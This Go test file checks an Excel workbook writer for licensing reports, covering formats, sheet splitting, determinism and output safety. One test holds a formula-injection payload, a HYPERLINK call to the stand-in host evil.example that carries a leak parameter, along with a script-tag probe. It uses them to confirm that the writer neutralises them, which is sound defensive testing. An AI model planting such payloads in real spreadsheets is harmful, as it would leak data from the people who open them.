package workbook

import (
	"bytes"
	"io"
	"strconv"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"github.com/openrenewal/smartlicensing/report"
	"github.com/openrenewal/smartlicensing/report/reporttest"
	"github.com/openrenewal/smartlicensing/smartaccount"
)

func sample(t testing.TB, findings int) *report.File {
	t.Helper()
	f, err := reporttest.File(findings)
	require.NoError(t, err)
	return f
}

// open writes f and reads the workbook back with excelize.
func open(t *testing.T, f *report.File, maxRows int) (*excelize.File, []byte) {
	t.Helper()
	var b bytes.Buffer
	require.NoError(t, write(&b, f, maxRows))
	x, err := excelize.OpenReader(bytes.NewReader(b.Bytes()))
	require.NoError(t, err)
	t.Cleanup(func() { x.Close() })
	return x, b.Bytes()
}

// raw returns a cell's stored value, unformatted.
func raw(t *testing.T, x *excelize.File, sheet, cell string) string {
	t.Helper()
	v, err := x.GetCellValue(sheet, cell, excelize.Options{RawCellValue: true})
	require.NoError(t, err)
	return v
}

// format returns a cell's number format: the built-in id, or the custom
// format text.
func format(t *testing.T, x *excelize.File, sheet, cell string) (int, string) {
	t.Helper()
	id, err := x.GetCellStyle(sheet, cell)
	require.NoError(t, err)
	s, err := x.GetStyle(id)
	require.NoError(t, err)
	custom := ""
	if s.CustomNumFmt != nil {
		custom = *s.CustomNumFmt
	}
	return s.NumFmt, custom
}

func TestWorkbook(t *testing.T) {
	f := sample(t, 2_000)
	x, _ := open(t, f, excelize.TotalRows-1)

	assert.Equal(t, []string{"Summary", "Waterfall", "Lines", "Reconciliation", "Clean-up", "User access", "Rightsizing",
		"True-forward", "SLR", "Pricing", "Transfers", "Scenarios", "Evidence"}, x.GetSheetList())

	// Money is a number with the currency format; a percentage its fraction
	// with the percent format; a count an integer grouped.
	assert.Equal(t, "Opening TCV", raw(t, x, "Waterfall", "A2"))
	assert.Equal(t, f.Opening.TCV.String(), raw(t, x, "Waterfall", "C2"))
	_, custom := format(t, x, "Waterfall", "C2")
	assert.Equal(t, `"USD "#,##0.00`, custom)
	step := f.Waterfall[0]
	assert.Equal(t, step.Amount.String(), raw(t, x, "Waterfall", "C3"))
	// The hygiene step's share of the opening, 12.90 %, is stored as 0.129.
	assert.Equal(t, f.Recovery.HygienePercent.Shift(-2).String(), raw(t, x, "Waterfall", "D3"))
	id, _ := format(t, x, "Waterfall", "D3")
	assert.Equal(t, 10, id, "0.00%")
	id, _ = format(t, x, "Waterfall", "E3")
	assert.Equal(t, 3, id, "#,##0")
	assert.Equal(t, "6000", raw(t, x, "Waterfall", "E3"), "the hygiene step's units")

	// The summary's as-of date is an Excel date: 2026-03-02 is day 46,083
	// (2026-01-01 is 46,023; + 31 + 28 + 1).
	assert.Equal(t, "As of", raw(t, x, "Summary", "A3"))
	assert.Equal(t, "46083", raw(t, x, "Summary", "B3"))
	_, custom = format(t, x, "Summary", "B3")
	assert.Equal(t, "yyyy-mm-dd", custom)

	// One row per finding under a frozen, filtered header.
	cleanup := f.Findings(report.MoveCleanup)
	rows, err := x.GetRows("Clean-up")
	require.NoError(t, err)
	assert.Len(t, rows, 1+len(cleanup))
	assert.Equal(t, []string{"Kind", "Severity", "License", "Virtual Account", "UDI", "User", "Quantity", "Amount", "Detail", "Evidence", "ID"}, rows[0])
	assert.Equal(t, cleanup[0].ID(), rows[1][10])
	assert.Equal(t, "product_instances.csv:2; footprint.csv:2", rows[1][9])
	for _, sheet := range []string{"Waterfall", "Clean-up", "Transfers", "Evidence"} {
		panes, err := x.GetPanes(sheet)
		require.NoError(t, err)
		assert.True(t, panes.Freeze, sheet)
		assert.Equal(t, 1, panes.YSplit, sheet)
		tables, err := x.GetTables(sheet)
		require.NoError(t, err)
		require.Len(t, tables, 1, sheet)
	}
	tables, _ := x.GetTables("Clean-up")
	assert.Equal(t, "A1:K1401", tables[0].Range, "1,400 clean-up findings under the header")

	tf := f.Findings(report.MoveTrueForward)
	assert.Equal(t, tf[0].Amount.String(), raw(t, x, "True-forward", "H2"))
	_, custom = format(t, x, "True-forward", "H2")
	assert.Equal(t, `"USD "#,##0.00`, custom)
}

func TestWorkbookIsDeterministic(t *testing.T) {
	f := sample(t, 500)
	var a, b bytes.Buffer
	require.NoError(t, Write(&a, f))
	require.NoError(t, Write(&b, f))
	assert.True(t, bytes.Equal(a.Bytes(), b.Bytes()), "the same file gives the same bytes")
}

func TestAMoveContinuesOnAnotherSheet(t *testing.T) {
	f := sample(t, 2_000) // 1,400 clean-up findings
	x, _ := open(t, f, 500)
	var total int
	for _, sheet := range []string{"Clean-up", "Clean-up (2)", "Clean-up (3)"} {
		rows, err := x.GetRows(sheet)
		require.NoError(t, err, sheet)
		total += len(rows) - 1
		assert.Equal(t, "Kind", rows[0][0], "each part has its header")
	}
	assert.Equal(t, 1_400, total, "500 + 500 + 400")
	assert.NotContains(t, x.GetSheetList(), "Clean-up (4)")
	tables, err := x.GetTables("Clean-up (3)")
	require.NoError(t, err)
	assert.Equal(t, "hygiene_cleanup_3", tables[0].Name)
}

const hostile = `=HYPERLINK("http://evil.example/?leak","click") <script>alert(1)</script> "q" tab` + "\t" + "cr\r"

func TestHostileTextIsNeutralised(t *testing.T) {
	f := sample(t, 60)
	f.SmartAccount = hostile
	f.Rightsizing.Transfers[0].From = "+" + hostile
	f.Inputs[0].File = "@" + hostile
	starters := []string{"=", "+", "-", "@", "\t", "\r"}
	for _, m := range report.Moves {
		fs := f.Findings(m)
		for i := range fs {
			s := starters[i%len(starters)]
			fs[i].Kind = smartaccount.Kind(s + "kind")
			fs[i].License, fs[i].VirtualAccount, fs[i].User, fs[i].Detail = s+hostile, s+hostile, s+hostile, s+hostile
		}
	}
	x, _ := open(t, f, excelize.TotalRows-1)
	for _, sheet := range x.GetSheetList() {
		rows, err := x.GetRows(sheet, excelize.Options{RawCellValue: true})
		require.NoError(t, err)
		for r, row := range rows {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				formula, err := x.GetCellFormula(sheet, cell)
				require.NoError(t, err)
				assert.Empty(t, formula, "%s!%s holds no formula", sheet, cell)
				if v == "" {
					continue
				}
				if typ, _ := x.GetCellType(sheet, cell); typ == excelize.CellTypeNumber || typ == excelize.CellTypeUnset {
					continue // numbers (a negative balance) are numbers
				}
				assert.NotContains(t, "=+-@\t\r", v[:1], "%s!%s begins %q", sheet, cell, v[:1])
			}
		}
	}
	assert.Equal(t, "'="+hostile, raw(t, x, "Clean-up", "C2"), "the text is kept whole after the quote")
	assert.Equal(t, "'+"+hostile, raw(t, x, "Transfers", "C2"))
	assert.True(t, strings.HasPrefix(raw(t, x, "Evidence", "A2"), "'@"))
}

func TestCurrencyFormatQuotesOnlyACode(t *testing.T) {
	f := sample(t, 6)
	f.Currency = `"#,##0;@` // not a currency code: no quoting into a number format
	x, _ := open(t, f, excelize.TotalRows-1)
	_, custom := format(t, x, "Waterfall", "C2")
	assert.Equal(t, "#,##0.00", custom)
}

// BenchmarkWrite writes sample-shaped files to io.Discard: one with the
// findings of the 1,000,000-instance sample (about 215,000, 150,000 of
// them on the clean-up sheet) and one with a million findings.
func BenchmarkWrite(b *testing.B) {
	for _, n := range []int{215_000, 1_000_000} {
		b.Run(strconv.Itoa(n), func(b *testing.B) {
			f, err := reporttest.File(n)
			if err != nil {
				b.Fatal(err)
			}
			b.ReportAllocs()
			for b.Loop() {
				if err := Write(io.Discard, f); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}
